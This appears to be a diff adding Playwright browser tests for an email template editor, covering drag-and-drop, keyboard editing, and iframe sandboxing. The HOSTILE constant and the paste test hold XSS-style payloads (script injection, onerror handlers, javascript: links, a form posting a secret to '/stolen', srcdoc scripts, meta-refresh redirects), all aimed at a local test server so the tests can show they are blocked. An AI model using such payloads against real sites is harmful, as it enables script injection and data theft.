@@ -1,0 +1,258 @@
+"""The visual editor: an email is put together with the mouse and with the keyboard, and nothing in it can run or reach the app."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Page, Route, StorageState, expect
+
+from tests.browser.conftest import Visit
+from tests.support.browser import heading, wait_idle
+from tests.support.canvas import drag, make, parts, row, settled, tile
+from tests.support.landing import Landing, landing
+from tests.support.product import Product
+
+pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
+
+# As no template is let through: what follows would reach the frame only if everything before it failed.
+HOSTILE = """
+<base href="{site}/">
+<script>fetch("{site}/ran"); top.taken = 1; parent.document.title = "taken"; top.location = "{site}/taken"</script>
+<script src="{site}/outer.js"></script>
+<img src="{site}/picture.gif" alt="A picture"><img src="/nowhere.gif" onerror="fetch('{site}/handler'); top.taken = 1" alt="">
+<img name="querySelectorAll" alt=""><form name="documentElement"></form><svg onload="top.taken = 1"></svg>
+<a href="javascript:top.taken=1" id="go" autofocus onfocus="top.taken = 1">Go</a>
+<form action="{site}/stolen" target="_top"><input name="q" value="secret" autofocus><button>Give</button></form>
+<iframe srcdoc="<script>fetch('{site}/inner'); top.taken = 1</script>"></iframe><object data="{site}/object"></object>
+<style>@import "{site}/harmless.css";</style>
+"""
+# What is about where the answer came from, not about what it may do.
+OF_THE_WAY = {"content-length", "content-encoding", "x-frame-options"}
+LEADS_AWAY = '<meta http-equiv="refresh" content="0; url={site}/refreshed">'
+# As the page hands an email to the frame.
+HAND_OVER = """(frame, html) => frame.contentWindow.postMessage({ postwright: "show", html, number: 0 }, "*")"""
+REACHED = """() => { try { return parent.document.title } catch (error) { return error.name } }"""
+COOKIES = """() => { try { return document.cookie } catch (error) { return error.name } }"""
+
+
+@pytest.fixture
+def page(visit: Visit, signed_in: StorageState) -> Page:
+    return visit(storage_state=signed_in).new_page()
+
+
+@pytest.fixture
+def site() -> Iterator[Landing]:
+    with landing() as started:
+        yield started
+
+
+def test_an_email_is_built_by_dragging_seen_on_a_phone_saved_and_there_again(product: Product, page: Page) -> None:
+    make(page, product.app_url, "Dragged")
+    drag(page, tile(page, "heading"), page.get_by_text("Drop something here"))
+    assert parts(page) == ["Header", "Heading “Heading”", "Footer"]
+    page.get_by_role("textbox", name="Text", exact=True).fill("Spring is here")
+    email = page.frame_locator(".stage iframe")
+    expect(email.get_by_role("heading", name="Spring is here")).to_be_visible()
+    settled(page)
+    drag(page, tile(page, "text"), page.locator(".chosen"), share=0.9)
+    drag(page, tile(page, "button"), page.locator(".chosen"), share=0.9)
+    assert parts(page) == ["Header", "Heading “Spring is here”", "Text", "Button “Read more”", "Footer"]
+    page.get_by_role("textbox", name="Where it leads").fill("https://example.com/spring")
+    page.keyboard.press("Tab")
+    settled(page)
+    drag(page, page.locator(".grip"), page.get_by_role("treeitem", name="Header"), drop=False)
+    page.keyboard.press("Escape")
+    page.mouse.up()
+    row(page, "Text").click()
+    settled(page)
+    words = page.get_by_role("textbox", name="Text", exact=True)
+    words.fill("Now with more sun.")
+    expect(email.get_by_text("Now with more sun.")).to_be_visible()
+    settled(page)
+    page.get_by_role("button", name="Undo").click()
+    expect(email.get_by_text("Write something here.")).to_be_visible()
+    settled(page)
+    page.get_by_role("button", name="Redo").click()
+    expect(email.get_by_text("Now with more sun.")).to_be_visible()
+    expect(page.get_by_text("Draft saved")).to_be_visible()
+
+    page.get_by_role("radio", name="Preview").click()
+    page.get_by_role("radio", name="Phone").click()
+    wait_idle(page)
+    phone = page.locator("iframe[title='Preview of the email']")
+    expect(phone.content_frame.get_by_text("Now with more sun.")).to_be_visible()
+    box = phone.bounding_box()
+    assert box
+    assert box["width"] == 375
+
+    page.reload()
+    heading(page, "Dragged")
+    expect(email.get_by_text("Now with more sun.")).to_be_visible()
+    page.get_by_role("button", name="Save version").click()
+    page.get_by_role("dialog", name="Save version").get_by_role("button", name="Save version").click()
+    expect(page.get_by_text("version 2")).to_be_visible()
+    page.reload()
+    heading(page, "Dragged")
+    expect(page.get_by_text("Nothing changed yet")).to_be_visible()
+    assert parts(page) == ["Header", "Heading “Spring is here”", "Text", "Button “Read more”", "Footer"]
+
+
+def test_blocks_and_sections_are_dragged_to_other_places(product: Product, page: Page) -> None:
+    make(page, product.app_url, "Moved")
+    for kind in ("heading", "divider"):
+        tile(page, kind).click()
+        settled(page)
+    tile(page, "1-1").click()
+    settled(page)
+    row(page, "Heading").click()
+    settled(page)
+    drag(page, page.locator(".grip"), page.get_by_text("Drop something here").last)
+    assert parts(page) == ["Header", "Line", "Heading “Heading” (column 2)", "Footer"]
+    page.get_by_role("treeitem", name="Section 3").click()
+    settled(page)
+    top = page.locator(".stage")
+    drag(page, page.locator(".grip"), top, share=0.01)
+    assert parts(page)[:2] == ["Heading “Heading” (column 2)", "Header"]
+
+
+def test_everything_goes_with_the_keyboard_too(product: Product, page: Page) -> None:
+    make(page, product.app_url, "Typed")
+    for kind in ("heading", "divider"):
+        tile(page, kind).focus()
+        page.keyboard.press("Enter")
+        settled(page)
+    assert parts(page) == ["Header", "Heading “Heading”", "Line", "Footer"]
+    row(page, "Line").focus()
+    page.keyboard.press("Alt+ArrowUp")
+    expect(page.locator(".told")).to_contain_text("Line moved up")
+    settled(page)
+    assert parts(page) == ["Header", "Line", "Heading “Heading”", "Footer"]
+    expect(row(page, "Line")).to_be_focused()
+    page.keyboard.press("Control+d")
+    settled(page)
+    assert parts(page).count("Line") == 2
+    page.keyboard.press("Delete")
+    settled(page)
+    page.keyboard.press("Control+z")
+    settled(page)
+    assert parts(page).count("Line") == 2
+    page.keyboard.press("Control+Shift+z")
+    settled(page)
+    assert parts(page).count("Line") == 1
+    page.keyboard.press("End")
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("heading", name="Footer")).to_be_visible()
+
+
+def test_quick_steps_are_all_done_in_their_order(product: Product, page: Page) -> None:
+    make(page, product.app_url, "Quick")
+    for kind in ("heading", "divider", "spacer", "quote", "divider", "heading"):
+        tile(page, kind).click()
+    settled(page)
+    assert [name.split(" ")[0] for name in parts(page)] == ["Header", "Heading", "Line", "Room", "Quote", "Line", "Heading", "Footer"]
+
+
+def test_pasted_text_keeps_its_meaning_and_nothing_else(product: Product, page: Page) -> None:
+    make(page, product.app_url, "Pasted")
+    tile(page, "text").click()
+    settled(page)
+    words = page.get_by_role("textbox", name="Text", exact=True)
+    words.click()
+    page.keyboard.press("Control+a")
+    words.evaluate(
+        """(area, html) => {
+            const carried = new DataTransfer()
+            carried.setData("text/html", html)
+            area.dispatchEvent(new ClipboardEvent("paste", { clipboardData: carried, bubbles: true, cancelable: true }))
+        }""",
+        "<p style='font-size:90px' onclick='top.taken=1'>Sun <b>and</b> <img src=x onerror='top.taken=1'><script>top.taken=1</script>"
+        "<a href='javascript:top.taken=1'>rain</a></p>",
+    )
+    email = page.frame_locator(".stage iframe")
+    expect(email.get_by_text("Sun and rain")).to_be_visible()
+    settled(page)
+    assert "onclick" not in words.inner_html()
+    assert "90px" not in words.inner_html()
+    assert page.evaluate("() => window.taken") is None
+
+
+def put_into_frames(page: Page, site: Landing, hostile: str) -> None:
+    """Let every email on show hold something hostile besides, under the policy that the app has given it."""
+
+    def with_hostile(route: Route) -> None:
+        # From a real server: what Playwright answers itself has no place in a network, and would be cut off from this one.
+        answer, path = route.fetch(), f"/given{len(site.given)}"
+        headers = {name: value for name, value in answer.headers.items() if name not in OF_THE_WAY}
+        headers["content-security-policy"] = headers["content-security-policy"].replace("frame-ancestors 'self'", "frame-ancestors *")
+        body = answer.text().replace("</body>", hostile.format(site=site.url) + "</body>")
+        site.given[path] = (headers, body.encode())
+        route.continue_(url=site.url + path)
+
+    page.route("**/frames/*", with_hostile)
+
+
+def test_whatever_an_email_holds_it_can_not_run_or_reach_the_app_from_the_canvas(product: Product, page: Page, site: Landing) -> None:
+    make(page, product.app_url, "Hostile on the canvas")
+    address = page.url
+    with page.expect_response(f"{site.url}/picture.gif"):  # pictures are live
+        page.locator(".stage iframe").evaluate(HAND_OVER, f"<!doctype html><html><body>{HOSTILE.format(site=site.url)}</body></html>")
+    expect(page.frame_locator(".stage iframe").get_by_role("link", name="Go")).to_be_attached()
+    assert page.locator(".stage iframe").get_attribute("sandbox") == "allow-scripts"
+    nothing_was_reached(page, ".stage iframe", site, address)
+    tile(page, "heading").click()
+    settled(page)
+    expect(page.frame_locator(".stage iframe").get_by_role("heading", name="Heading")).to_be_visible()
+    expect(page.locator(".chosen")).to_be_visible()  # blocks are found as if nothing had been
+
+
+def test_whatever_an_email_holds_it_can_not_run_or_reach_the_app_from_the_preview(product: Product, page: Page, site: Landing) -> None:
+    make(page, product.app_url, "Hostile in the preview")
+    address = page.url
+    put_into_frames(page, site, LEADS_AWAY + HOSTILE)
+    with page.expect_response(f"{site.url}/picture.gif"):
+        page.get_by_role("radio", name="Preview").click()
+    preview = "iframe[title='Preview of the email']"
+    expect(page.frame_locator(preview).get_by_role("link", name="Go")).to_be_attached()
+    wait_idle(page)
+    nothing_was_reached(page, preview, site, address)
+
+
+def nothing_was_reached(page: Page, shown: str, site: Landing, address: str) -> None:
+    """Check that what is in a frame has no origin, no cookies and no parent, and that nothing of it ran or asked for anything."""
+    handle = page.locator(shown).element_handle()
+    frame = handle.content_frame() if handle else None
+    assert frame
+    assert frame.evaluate("() => self.origin") == "null"
+    assert frame.evaluate(REACHED) == frame.evaluate(COOKIES) == "SecurityError"
+    assert page.evaluate("() => [window.taken ?? null, document.title]") == [None, "Template · Postwright"]
+    assert page.url == address
+    assert set(site.asked) - {"/favicon.ico", *site.given} <= {"/picture.gif", "/harmless.css"}
+
+
+def test_an_email_that_leads_its_frame_away_gets_nowhere_and_the_next_state_is_shown(product: Product, page: Page, site: Landing) -> None:
+    make(page, product.app_url, "Leading away")
+    address = page.url
+    with page.expect_console_message(lambda message: "frame-src" in message.text):
+        page.locator(".stage iframe").evaluate(HAND_OVER, f"<!doctype html><html><head>{LEADS_AWAY.format(site=site.url)}</head></html>")
+    tile(page, "heading").click()
+    settled(page)
+    expect(page.frame_locator(".stage iframe").get_by_role("heading", name="Heading")).to_be_visible()
+    assert page.url == address
+    assert not site.asked
+
+
+def test_what_the_frame_says_is_believed_only_in_its_shape(product: Product, page: Page) -> None:
+    make(page, product.app_url, "Liar")
+    lies = """() => {
+        for (const said of [{ postwright: "measured", height: 1e12, rects: [["<b>x</b>", 0, 0, 9, 9], ["abcd", NaN, 0, 1, 1], 5] },
+                            { postwright: "measured", rects: "x" }, "x", null]) parent.postMessage(said, "*")
+    }"""
+    frame = next(one for one in page.frames if "/frames/" in one.url)
+    page.evaluate("() => window.postMessage({ postwright: 'measured', height: 9, rects: [] }, '*')")
+    assert page.locator(".stage").evaluate("stage => stage.offsetHeight") > 100
+    frame.evaluate(lies)
+    tile(page, "heading").click()
+    settled(page)
+    assert parts(page) == ["Header", "Heading “Heading”", "Footer"]
+    assert page.locator(".stage").evaluate("stage => stage.offsetHeight") < 40_000
